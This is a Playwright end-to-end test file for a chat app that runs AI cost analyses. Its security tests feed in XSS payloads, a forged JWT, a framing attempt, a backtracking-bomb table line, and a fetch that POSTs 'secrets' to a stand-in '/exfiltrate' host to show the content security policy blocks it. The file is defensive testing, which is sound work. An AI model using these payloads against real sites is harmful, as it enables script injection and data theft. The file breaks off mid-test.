"""The chat page in a real headless Chromium (Debian's), driven by Playwright, against the
real local stack: connect as a demo user, run an analysis, reload mid-run, upload usage,
hostile text, phone width, keyboard use, signing in.

Debian's Chromium is launched from /usr/bin/chromium (``scripts/browser-prereqs``
installs it; ``playwright install`` is never run). Screenshots go to
``test-artifacts/screenshots/``.

Most tests use the session's ``stack``. The reload test uses a second stack of
its own (same processes, own project) with ``AGENT_STEP_DELAY_MS`` set, so that
a run lasts a few seconds and "mid-run" is a state the test can wait for rather
than a race.
"""

from __future__ import annotations

import json
import re
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jwt
import pytest
from playwright.sync_api import (
    Browser,
    Page,
    ViewportSize,
    WebSocketRoute,
    expect,
    sync_playwright,
)

from emulators.processes import ProcessGroup
from emulators.stack import REPO_ROOT, Stack, StackPorts, start_stack
from tests.conftest import SHARED_DATA, EmulatorEnv, RunningStack
from tests.usage_fixtures import USAGE_FIXTURES

pytestmark = [pytest.mark.browser, pytest.mark.emulators]

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SCREENSHOTS = REPO_ROOT / "test-artifacts" / "screenshots"
AGENTS = ("supervisor", "triage", "data", "optimization", "reporting")
RUN_MS = 120_000
DESKTOP: ViewportSize = {"width": 1280, "height": 900}
PHONE: ViewportSize = {"width": 390, "height": 844}
PACED_STEP_MS = "300"
HOSTILE = (
    '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1"> Analyze my AI costs'
)
# the project's own format, with good rows and rows the importer rejects
SAMPLE_USAGE = USAGE_FIXTURES / "native_malformed.csv"
UPLOAD_FIELD = "Upload a usage export"


# ---------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.fail(
            f"{CHROMIUM} is missing: run scripts/browser-prereqs (it says how to install it)"
        )
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@dataclass
class Tab:
    page: Page
    console: list[str]

    def shot(self, name: str) -> Path:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        path = SCREENSHOTS / f"{name}.png"
        self.page.screenshot(path=str(path), full_page=False)
        return path


def open_tab(browser: Browser, url: str, *, viewport: ViewportSize = DESKTOP) -> Tab:
    """A fresh browser context (its own sessionStorage) with the page loaded and connected."""
    context = browser.new_context(viewport=viewport)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda message: console.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: console.append(f"pageerror: {error}"))
    page.goto(url)
    expect_connected(page)
    return Tab(page, console)


def expect_connected(page: Page) -> None:
    expect(page.locator("#connection-status")).to_have_attribute(
        "data-state", "connected", timeout=30_000
    )


@pytest.fixture
def tabs(browser: Browser) -> Iterator[list[Tab]]:
    opened: list[Tab] = []
    yield opened
    for tab in opened:
        tab.page.context.close()


@dataclass(frozen=True)
class PacedStack:
    stack: Stack
    jwt_secret: str


@pytest.fixture(scope="module")
def paced_stack(emulator_env: EmulatorEnv, jwt_secret: str) -> Iterator[PacedStack]:
    """The whole product again, in its own project, with a pause before each agent step
    (start_stack lets the page's origin upload to ingest_usage, as a deployment does)."""
    project = f"{emulator_env.project}-paced"
    env = emulator_env.app_env(
        jwt_secret=jwt_secret, project=project, AGENT_STEP_DELAY_MS=PACED_STEP_MS
    )
    with ProcessGroup(log_dir=emulator_env.log_dir / project) as group:
        running = start_stack(group, project=project, env=env, ports=StackPorts.free())
        yield PacedStack(running, jwt_secret)


def send(page: Page, text: str) -> None:
    box = page.get_by_label("Message", exact=True)
    box.fill(text)
    box.press("Enter")


def expect_run_completed(page: Page) -> None:
    card = page.locator(".run-card").last
    for agent in AGENTS:
        expect(card.locator(f'[data-agent="{agent}"]')).to_have_attribute(
            "data-state", "done", timeout=RUN_MS
        )
    expect(card).to_have_attribute("data-status", "completed", timeout=RUN_MS)
    report_table = card.locator(".report table").first
    expect(report_table).to_be_visible()
    expect(report_table.locator("tbody tr").first).to_be_visible()


def no_horizontal_scroll(page: Page) -> bool:
    return bool(
        page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        and page.evaluate("document.body.scrollWidth <= window.innerWidth")
    )


# ---------------------------------------------------------------- the golden path


def test_a_demo_user_watches_an_analysis_and_gets_the_report(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    expect(page.locator("#connection-text")).to_have_text("Connected · demo session")
    expect(page.locator("#demo-banner")).to_be_visible()
    expect(page.locator("#demo-banner")).to_contain_text("Demo mode")
    tab.shot("desktop-welcome")

    send(page, "Analyze my AI costs")

    expect(page.locator(".message--user").last).to_contain_text("Analyze my AI costs")
    expect_run_completed(page)
    card = page.locator(".run-card").last
    durations = card.locator('.tool[data-state="ok"] .tool-meta')
    expect(durations.first).to_have_text(re.compile(r"^\d+(\.\d+)? (ms|s)$"))
    expect(card.locator(".report h2").first).to_be_visible()
    thread = page.locator(".thread-link", has_text="Analyze my AI costs")
    expect(thread).to_have_attribute("aria-current", "true")
    expect(page.locator("#thread-title")).to_have_text("Analyze my AI costs")
    # the run is over: nothing is remembered as in flight
    assert page.evaluate("sessionStorage.getItem('apex.active_run')") is None
    card.locator(".report").scroll_into_view_if_needed()
    tab.shot("desktop-report")
    assert not [line for line in tab.console if line.startswith(("error", "pageerror"))]


def test_a_reload_mid_run_shows_the_run_continuing_to_the_end(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, paced_stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    send(page, "Analyze my AI costs")
    card = page.locator(".run-card").last
    expect(card.locator('[data-agent="triage"]')).to_have_attribute(
        "data-state", "done", timeout=RUN_MS
    )
    active = json.loads(page.evaluate("sessionStorage.getItem('apex.active_run')") or "null")
    assert active is not None, "the run finished before the reload; it should be mid-run"
    assert active["last_seq"] > 0
    tab.shot("desktop-mid-run")
    demo_token = page.evaluate("sessionStorage.getItem('apex.session_token')")
    user_before = page.evaluate("document.getElementById('connection-text').textContent")

    page.reload()

    expect_connected(page)
    assert page.evaluate("document.getElementById('connection-text').textContent") == user_before
    assert page.evaluate("sessionStorage.getItem('apex.session_token')") is not None
    assert demo_token is not None
    expect(page.locator(f'.run-card[data-run-id="{active["run_id"]}"]')).to_be_visible()
    expect_run_completed(page)
    # rebuilt from seq 1 after the reload, every event once: one card, one row per
    # agent, each tool call once, one report
    assert page.locator(".run-card").count() == 1
    for agent in AGENTS:
        assert page.locator(f'.run-card [data-agent="{agent}"]').count() == 1
    tool_ids = page.locator(".run-card .tool").evaluate_all(
        "items => items.map(item => item.dataset.toolCallId)"
    )
    assert tool_ids
    assert len(tool_ids) == len(set(tool_ids))
    assert page.locator(".run-card .report").count() == 1
    assert page.locator(".message--user").count() == 1
    assert page.evaluate("sessionStorage.getItem('apex.active_run')") is None


RECORD_STATUS = """
() => {
  window.__states = [];
  const status = document.getElementById("connection-status");
  new MutationObserver(() => window.__states.push(status.dataset.state)).observe(status, {
    attributes: true,
    attributeFilter: ["data-state"],
  });
}
"""


def test_a_dropped_connection_reconnects_as_the_same_user_and_resumes_the_run(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, paced_stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    sockets: list[WebSocketRoute] = []

    def through(ws: WebSocketRoute) -> None:
        # pass every frame through to the real edge; the test can cut the page's side
        sockets.append(ws)
        ws.connect_to_server()

    page.route_web_socket(re.compile(r"/ws$"), through)
    page.reload()  # connect again, now through the route
    expect_connected(page)
    send(page, "Analyze my AI costs")
    card = page.locator(".run-card").last
    expect(card.locator('[data-agent="triage"]')).to_have_attribute(
        "data-state", "done", timeout=RUN_MS
    )
    assert card.get_attribute("data-status") == "running"

    page.evaluate(RECORD_STATUS)

    sockets[-1].close(code=1001, reason="rotating")  # what the edge does before Cloud Run's timeout

    page.wait_for_function("window.__states.includes('reconnecting')")
    expect_connected(page)
    assert len(sockets) >= 2
    expect_run_completed(page)
    tool_ids = card.locator(".tool").evaluate_all("items => items.map(i => i.dataset.toolCallId)")
    assert len(tool_ids) == len(set(tool_ids))
    # the same demo user: its thread is still listed after the reconnect
    expect(page.locator(".thread-link", has_text="Analyze my AI costs")).to_have_count(1)
    assert page.locator(".run-card").count() == 1


def test_cancel_stops_the_run_and_says_so(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, paced_stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    send(page, "Analyze my AI costs")
    card = page.locator(".run-card").last
    expect(card.locator('[data-agent="triage"]')).to_have_attribute(
        "data-state", re.compile("working|done"), timeout=RUN_MS
    )

    card.get_by_role("button", name="Cancel").click()

    expect(card).to_have_attribute("data-status", "cancelled", timeout=RUN_MS)
    expect(card.locator(".run-error")).to_contain_text("The analysis was cancelled.")
    expect(card.locator('[data-agent="supervisor"]')).to_have_attribute("data-state", "failed")
    expect(card.locator(".report")).to_be_hidden()
    expect(page.locator("#send")).to_have_attribute("aria-disabled", "false")


def test_the_run_shows_live_progress_at_phone_width_without_horizontal_scroll(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, paced_stack.stack.http_url, viewport=PHONE)
    tabs.append(tab)
    page = tab.page
    assert no_horizontal_scroll(page)
    tab.shot("phone-welcome")

    send(page, "Analyze my AI costs")
    card = page.locator(".run-card").last
    expect(card.locator('[data-agent="data"]')).to_have_attribute(
        "data-state", re.compile("working|done"), timeout=RUN_MS
    )
    card.scroll_into_view_if_needed()
    tab.shot("phone-mid-run")
    assert no_horizontal_scroll(page)

    expect_run_completed(page)
    assert no_horizontal_scroll(page)
    card.locator(".report table").first.scroll_into_view_if_needed()
    tab.shot("phone-report")
    # a wide table scrolls inside its own box, not the page
    wrap = card.locator(".report .table-wrap").first
    assert wrap.evaluate("node => node.getBoundingClientRect().right <= window.innerWidth")


# ---------------------------------------------------------------- safety


def test_html_in_a_message_and_a_thread_title_renders_as_text(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page

    send(page, HOSTILE)

    expect(page.locator(".message--user").last).to_contain_text("<script>window.__pwned=1</script>")
    expect(page.locator(".thread-link").first).to_contain_text("<script>")
    expect(page.locator("#thread-title")).to_contain_text('<img src=x onerror="window.__pwned=1">')
    expect_run_completed(page)
    assert page.locator("main img, nav img").count() == 0
    assert page.locator("main script, nav script").count() == 0
    assert page.evaluate("window.__pwned") is None

    # the same after a reload, when the thread comes back from the server
    page.reload()
    expect_connected(page)
    expect(page.locator(".message--user").first).to_contain_text("<img src=x")
    expect_run_completed(page)
    assert page.locator("main img, nav img").count() == 0
    assert page.evaluate("window.__pwned") is None


MARKDOWN_PROBE = """
async (source) => {
  const { renderMarkdown } = await import("/static/markdown.js");
  const host = document.createElement("div");
  host.append(renderMarkdown(source));
  document.body.append(host);
  await new Promise((resolve) => setTimeout(resolve, 50)); // let any onerror fire
  const result = {
    text: host.textContent,
    tags: Array.from(host.querySelectorAll("*"), (node) => node.tagName.toLowerCase()),
    hrefs: Array.from(host.querySelectorAll("a"), (a) => a.getAttribute("href")),
    attributes: Array.from(host.querySelectorAll("*"), (node) =>
      node.getAttributeNames().filter((name) => name.startsWith("on") || name === "style" || name === "src")
    ).flat(),
    html: host.innerHTML,
  };
  host.remove();
  return result;
}
"""


@pytest.mark.parametrize(
    "source",
    [
        "<script>window.__pwned=1</script>",
        '<img src=x onerror="window.__pwned=1">',
        "# Title <img src=x onerror=window.__pwned=1>\n\n| a | b |\n|---|---|\n| <script>window.__pwned=1</script> | <svg onload=window.__pwned=1> |",
        "**<b onmouseover=window.__pwned=1>bold</b>** and `<script>x</script>`",
        "[click](javascript:window.__pwned=1) [data](data:text/html,<script>window.__pwned=1</script>)",
        "[x](JaVaScRiPt:window.__pwned=1) [y]( javascript:window.__pwned=1 ) [z](vbscript:x)",
        "```html\n<script>window.__pwned=1</script>\n```",
        '- <iframe src="javascript:window.__pwned=1"></iframe>\n  - <a href=javascript:1>a</a>',
        "> <style>body{display:none}</style>",
    ],
)
def test_the_markdown_renderer_never_creates_markup_from_text(
    browser: Browser, stack: RunningStack, tabs: list[Tab], source: str
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    result: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, source)

    allowed = {"h2", "h3", "p", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote"}
    allowed |= {"div", "table", "thead", "tbody", "tr", "th", "td", "a", "hr"}
    assert set(result["tags"]) <= allowed, result["html"]
    assert result["attributes"] == []
    assert all(re.match(r"^https?://", href) for href in result["hrefs"]), result["hrefs"]
    assert result["text"].strip()  # the words are kept, as text
    assert tab.page.evaluate("window.__pwned") is None


def test_the_markdown_renderer_renders_what_reports_use(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    source = (
        "# Cost report\n\n**Total:** $1,234.50 and *about* `gpt-4o`; snake_case_name stays.\n\n"
        "| model | cost |\n|:---|---:|\n| gpt-4o | $12.00 |\n| a \\| b | $1 |\n\n"
        "1. **Cache** — $20/month\n   - assumption: 50%\n   - evidence: logs\n2. Route\n\n"
        "- [pricing](https://example.com/p?a=1)\n\n```\ncode <b>\n```\n\n---\n"
    )
    result: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, source)

    html = result["html"]
    assert "<h2>Cost report</h2>" in html
    assert "<strong>Total:</strong> $1,234.50 and <em>about</em> <code>gpt-4o</code>" in html
    assert "snake_case_name stays" in html
    assert '<th scope="col" class="align-left">model</th>' in html
    assert '<td class="align-right">$12.00</td>' in html
    assert '<td class="align-left">a | b</td>' in html
    assert re.search(
        r"<ol><li><strong>Cache</strong> — \$20/month<ul><li>assumption: 50%</li>", html
    )
    assert (
        '<a href="https://example.com/p?a=1" rel="noopener noreferrer nofollow" target="_blank">pricing</a>'
        in html
    )
    assert '<pre tabindex="0"><code>code &lt;b&gt;</code></pre>' in html
    assert "<hr>" in html


def test_the_static_code_never_writes_html_from_strings() -> None:
    static = REPO_ROOT / "edge_ws" / "static"
    for script in static.glob("*.js"):
        code = "\n".join(
            line for line in script.read_text().splitlines() if not line.lstrip().startswith("//")
        )
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
            assert sink not in code, f"{script.name} uses {sink}"
    index = (static / "index.html").read_text()
    assert "<script>" not in index  # the CSP allows no inline script
    assert "style=" not in index  # … and no inline style


LOW_CONTRAST = """
() => {
  const rgba = (text) => {
    const [r, g, b, a = 1] = text.match(/[\\d.]+/g).map(Number);
    return { r, g, b, a };
  };
  const luminance = ({ r, g, b }) => {
    const channel = (c) => {
      const s = c / 255;
      return s <= 0.03928 ? s / 12.92 : ((s + 0.055) / 1.055) ** 2.4;
    };
    return 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  };
  const background = (node) => {
    for (let n = node; n; n = n.parentElement) {
      const color = rgba(getComputedStyle(n).backgroundColor);
      if (color.a > 0.5) return color;
    }
    return { r: 255, g: 255, b: 255, a: 1 };
  };
  const problems = [];
  for (const node of document.querySelectorAll("body *")) {
    const text = Array.from(node.childNodes).filter((c) => c.nodeType === 3 && c.textContent.trim());
    if (!text.length || !node.getClientRects().length) continue;
    const style = getComputedStyle(node);
    if (style.visibility === "hidden" || node.closest("[hidden], .visually-hidden")) continue;
    const bg = background(node);
    if (!bg) continue;
    const fg = luminance(rgba(style.color));
    const back = luminance(bg);
    const ratio = (Math.max(fg, back) + 0.05) / (Math.min(fg, back) + 0.05);
    const size = parseFloat(style.fontSize);
    const large = size >= 24 || (size >= 18.66 && Number(style.fontWeight) >= 700);
    if (ratio < (large ? 3 : 4.5)) {
      problems.push(`${node.tagName.toLowerCase()}.${node.className} "${node.textContent.trim().slice(0, 40)}" ${ratio.toFixed(2)}:1`);
    }
  }
  return problems;
}
"""


def test_text_meets_wcag_aa_contrast_on_every_state_of_a_run(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    assert page.evaluate(LOW_CONTRAST) == []
    page.get_by_label("Message", exact=True).fill("x" * 4001)  # the length error is shown
    assert page.evaluate(LOW_CONTRAST) == []
    page.get_by_label("Message", exact=True).fill("")

    send(page, "Analyze my AI costs")
    expect_run_completed(page)
    assert page.evaluate(LOW_CONTRAST) == []
    # the checker does flag low contrast
    page.evaluate(
        "() => { const p = document.createElement('p'); p.textContent = 'faint';"
        " p.style.color = '#bbbbbb'; document.querySelector('main').append(p); }"
    )
    assert any('"faint"' in problem for problem in page.evaluate(LOW_CONTRAST))
    page.evaluate("sessionStorage.setItem('apex.thread_id', 't-not-a-thread-of-yours')")
    page.reload()  # an error alert, and a finished thread in the list
    expect(page.locator("#alerts .alert").first).to_be_visible(timeout=30_000)

    assert page.evaluate(LOW_CONTRAST) == []


# ---------------------------------------------------------------- composer, keyboard, errors


def test_the_message_box_refuses_more_than_4000_characters(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    box = page.get_by_label("Message", exact=True)

    box.fill("x" * 4001)
    box.press("Enter")

    error = page.locator("#composer-error")
    expect(error).to_be_visible()
    expect(error).to_contain_text("4,001 characters; the limit is 4,000")
    expect(box).to_have_attribute("aria-invalid", "true")
    assert page.locator(".message--user").count() == 0
    box.press("Backspace")
    expect(error).to_be_hidden()


def test_keyboard_use_shift_enter_for_a_newline_and_visible_focus(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page

    page.keyboard.press("Tab")
    expect(page.locator(".skip-link")).to_be_focused()
    page.keyboard.press("Enter")
    box = page.get_by_label("Message", exact=True)
    expect(box).to_be_focused()
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    expect(box).to_have_value("first line\nsecond line")

    page.keyboard.press("Shift+Tab")  # back into the page: a focused control is outlined
    outline = page.evaluate(
        "getComputedStyle(document.activeElement).outlineStyle + ' ' + "
        "getComputedStyle(document.activeElement).outlineWidth"
    )
    assert outline.startswith("solid"), outline
    assert not outline.endswith(" 0px"), outline
    for control in ("#usage-file", "#message", "#signin-token"):
        assert page.locator(f"label[for='{control[1:]}']").count() == 1
    assert page.locator("#announcer").get_attribute("aria-live") == "polite"


def test_a_server_error_is_shown_not_swallowed(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    # a thread this user does not have: the edge answers get_thread with an error frame
    page.evaluate("sessionStorage.setItem('apex.thread_id', 't-not-a-thread-of-yours')")

    page.reload()

    alert = page.locator("#alerts .alert").first
    expect(alert).to_contain_text("Server error: not_found", timeout=30_000)
    expect(page.locator("#thread-title")).to_have_text("New analysis")
    alert.get_by_role("button", name=re.compile("^Dismiss")).click()
    expect(page.locator("#alerts .alert")).to_have_count(0)


# ---------------------------------------------------------------- signing in


def test_a_signed_in_user_connects_with_the_bearer_subprotocol_and_the_token_stays_hidden(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    now = int(time.time())
    token = jwt.encode(
        {"sub": "web-e2e-user", "iat": now, "exp": now + 600}, stack.jwt_secret, algorithm="HS256"
    )
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page

    page.get_by_role("button", name="Sign in").click()
    page.get_by_label("Access token (JWT)").fill(token)
    page.get_by_label("Access token (JWT)").press("Enter")

    expect(page.locator("#connection-text")).to_have_text(
        "Connected as web-e2e-user", timeout=30_000
    )
    expect(page.locator("#demo-banner")).to_be_hidden()
    assert token not in page.content()
    assert not any(token in line for line in tab.console)

    page.reload()  # the token is kept for this tab only
    expect(page.locator("#connection-text")).to_have_text("Connected as web-e2e-user")

    page.get_by_role("button", name="Account").click()
    page.get_by_role("button", name="Sign out").click()
    expect(page.locator("#connection-text")).to_have_text("Connected · demo session")
    assert page.evaluate("sessionStorage.getItem('apex.user_token')") is None


def test_a_refused_token_is_explained_and_the_user_can_continue_as_demo(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    forged = jwt.encode({"sub": "mallory", "exp": int(time.time()) + 600}, "y" * 48, "HS256")
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    page = tab.page

    page.get_by_role("button", name="Sign in").click()
    page.get_by_label("Access token (JWT)").fill(forged)
    page.get_by_label("Access token (JWT)").press("Enter")

    expect(page.locator("#connection-status")).to_have_attribute("data-state", "refused")
    alert = page.locator("#alerts .alert", has_text="refused your access token")
    expect(alert).to_be_visible()
    alert.get_by_role("button", name="Continue as demo").click()
    expect(page.locator("#connection-text")).to_have_text("Connected · demo session")


# ---------------------------------------------------------------- usage upload


def http_status(request: urllib.request.Request) -> tuple[int, dict[str, str]]:
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status), {k.lower(): v for k, v in response.headers.items()}
    except urllib.error.HTTPError as exc:
        return exc.code, {k.lower(): v for k, v in exc.headers.items()}


def ingest_url_of(page_url: str) -> str:
    with urllib.request.urlopen(f"{page_url}/config.json", timeout=10) as response:
        config: dict[str, Any] = json.load(response)
    return urllib.parse.urljoin(page_url + "/", str(config["ingest_url"]))


def cors_allows(page_url: str, target: str) -> bool:
    """Whether ``target`` lets a page at ``page_url`` POST with a bearer token (same origin: yes)."""
    if urllib.parse.urlsplit(target).netloc == urllib.parse.urlsplit(page_url).netloc:
        return True
    preflight = urllib.request.Request(
        target,
        method="OPTIONS",
        headers={
            "Origin": page_url,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "authorization,content-type",
        },
    )
    _, headers = http_status(preflight)
    return headers.get("access-control-allow-origin") in ("*", page_url)


def test_a_usage_upload_shows_the_import_summary_with_the_rejections(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab]
) -> None:
    page_url = paced_stack.stack.http_url
    ingest = ingest_url_of(page_url)
    assert cors_allows(page_url, ingest), f"{ingest} does not allow uploads from {page_url}"
    tab = open_tab(browser, page_url)
    tabs.append(tab)
    page = tab.page

    _upload(page, SAMPLE_USAGE)

    summary = page.locator("#upload-result .upload-summary")
    expect(summary).to_contain_text("Imported native_malformed.csv", timeout=60_000)
    stats = summary.locator(".upload-stats")
    expect(stats).to_contain_text(re.compile(r"Imported\s*[1-9]\d* rows"))
    expect(stats).to_contain_text(re.compile(r"Rejected\s*[1-9]\d* rows"))
    expect(summary).to_contain_text("Why rows were rejected:")
    expect(summary.locator(".rejections li").first).to_contain_text(re.compile(r"^line \d+: "))
    assert page.evaluate(LOW_CONTRAST) == []
    tab.shot("desktop-upload")

    # the same file again: stored once, and the page says so
    _press_upload(page)
    expect(summary).to_contain_text("was already uploaded: nothing is counted twice")


def test_a_trace_upload_is_priced_with_the_model_mapping_typed_on_the_page(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab]
) -> None:
    trace = SHARED_DATA / "burstgpt" / "BurstGPT_1_first400.csv"
    assert trace.exists(), f"the BurstGPT sample must be at {trace} (see ../shared/data/README.md)"
    tab = open_tab(browser, paced_stack.stack.http_url)
    tabs.append(tab)
    page = tab.page
    page.get_by_label(UPLOAD_FIELD).set_input_files(str(trace))

    # without a mapping the server says what to add, and the page shows it
    _press_upload(page)
    error = page.locator("#upload-result .upload-error")
    expect(error).to_contain_text("model", timeout=60_000)
    expect(error).to_contain_text("HTTP 400")

    page.get_by_label("Price request traces as").fill(
        "ChatGPT=openai:gpt-3.5-turbo,GPT-4=openai:gpt-4"
    )
    _press_upload(page)
    summary = page.locator("#upload-result .upload-summary")
    expect(summary).to_contain_text("Imported BurstGPT_1_first400.csv", timeout=60_000)
    expect(summary.locator(".upload-stats")).to_contain_text(re.compile(r"Imported\s*400 rows"))


def test_an_upload_the_server_refuses_shows_its_reason(
    browser: Browser, paced_stack: PacedStack, tabs: list[Tab], tmp_path: Path
) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("timestamp,provider,model,input_tokens,output_tokens\n")
    tab = open_tab(browser, paced_stack.stack.http_url)
    tabs.append(tab)
    page = tab.page

    _upload(page, empty)

    error = page.locator("#upload-result .upload-error")
    expect(error).to_contain_text("HTTP 422", timeout=60_000)
    expect(error).to_contain_text("no_usable_rows")
    expect(error).to_have_attribute("role", "alert")


def test_an_upload_that_cannot_reach_the_ingest_service_is_reported(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    page_url = stack.stack.http_url
    ingest = ingest_url_of(page_url)
    tab = open_tab(browser, page_url)
    tabs.append(tab)
    page = tab.page
    # what the page sees when the service is down or refuses its origin (CORS): a failed fetch
    page.route(re.compile("^" + re.escape(ingest)), lambda route: route.abort("failed"))

    _upload(page, SAMPLE_USAGE)

    error = page.locator("#upload-result .upload-error")
    expect(error).to_contain_text(f"Could not reach the upload service at {ingest}")
    expect(error).to_contain_text("(CORS)")
    expect(page.get_by_role("button", name="Upload", exact=True)).to_be_enabled()


def _upload(page: Page, path: Path) -> None:
    """Choose ``path`` in the page's upload form and send it."""
    page.get_by_label(UPLOAD_FIELD).set_input_files(str(path))
    _press_upload(page)


def _press_upload(page: Page) -> None:
    page.get_by_role("button", name="Upload", exact=True).click()


# ---------------------------------------------------------------- issue 12: the page's defences


def test_the_page_cannot_be_framed_by_another_page(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    context = browser.new_context()
    page = context.new_page()
    tabs.append(Tab(page, []))
    page.set_content(f'<iframe id="victim" src="{stack.stack.http_url}/"></iframe>')
    frame = page.frame_locator("#victim")
    # The edge's page never loads inside the frame: its sign-in form is not there.
    expect(page.locator("#victim")).to_be_attached()
    page.wait_for_load_state("load")
    embedded = [f for f in page.frames if f is not page.main_frame]
    assert embedded, "the iframe did not even start to load"
    assert all(
        "Netra Apex" not in (f.title() if f.url.startswith("http") else "") for f in embedded
    )
    expect(frame.locator("#signin-toggle")).to_have_count(0)


def test_the_page_may_connect_only_to_its_own_origin_and_ingest(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    stranger = "http://127.0.0.1:9/exfiltrate"
    outcome: dict[str, Any] = tab.page.evaluate(
        """async (url) => {
          const violations = [];
          document.addEventListener("securitypolicyviolation", (e) =>
            violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
          let fetched = "sent";
          try { await fetch(url, { method: "POST", body: "secrets" }); }
          catch (error) { fetched = String(error); }
          let socket = "opened";
          try { new WebSocket(url.replace("http", "ws")); } catch (error) { socket = String(error); }
          await new Promise((resolve) => setTimeout(resolve, 200));
          return { violations, fetched, socket };
        }""",
        stranger,
    )
    blocked = {
        (v["directive"], v["blocked"].split("/exfiltrate")[0]) for v in outcome["violations"]
    }
    assert ("connect-src", "http://127.0.0.1:9") in blocked, outcome
    assert ("connect-src", "ws://127.0.0.1:9") in blocked, outcome
    assert outcome["fetched"] != "sent"
    # The page's own socket is connected (it is allowed).
    expect(tab.page.locator("#connection-status")).to_have_attribute("data-state", "connected")


def test_a_catastrophic_table_separator_line_renders_at_once(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    """The old separator regex backtracked cubically (an 8 KB line took 55 s in V8,
    2 KB 3 s): this 64 KB line would run for about a day; a linear check finishes
    long before the test's timeout."""
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    hostile = "| a |\n" + " " * 32_000 + "-" + " " * 32_000 + "x"
    result: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, hostile)
    assert "table" not in result["tags"]
    good: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, "| a | b |\n| :-- | --: |\n| 1 | 2 |")
    assert good["tags"].count("td") == 2


def test_a_carriage_return_in_a_model_name_stays_inside_its_table_cell(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    tab = open_tab(browser, stack.stack.http_url)
    tabs.append(tab)
    report = (
        "| model | cost |\n|---|---:|\n"
        "| evil\r# Injected heading\r--- | $1.00 |\n"
        "| gpt-4o | $2.00 |\n"
    )
    result: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, report)
    assert "h2" not in result["tags"], result["html"]
    assert "hr" not in result["tags"], result["html"]
    assert result["tags"].count("tr") == 3, result["html"]
    assert "<td>evil # Injected heading ---</td>" in result["html"]
    assert "Injected heading" in result["text"]
    # Windows line endings are still line endings.
    crlf: dict[str, Any] = tab.page.evaluate(MARKDOWN_PROBE, "# Title\r\n\r\ntext")
    assert "h2" in crlf["tags"]


def test_an_answer_draws_its_chart_as_inline_svg_with_the_table_as_fallback(
    browser: Browser, stack: RunningStack, tabs: list[Tab]
) -> None:
    for viewport, name in ((DESKTOP, "desktop"), (PHONE, "phone")):
        tab = open_tab(browser, stack.stack.http_url, viewport=viewport)
        tabs.append(tab)
        page = tab.page
        expect_connected(page)
        send(page, "top 3 models by cost")
        card = page.locator(".run-card").last
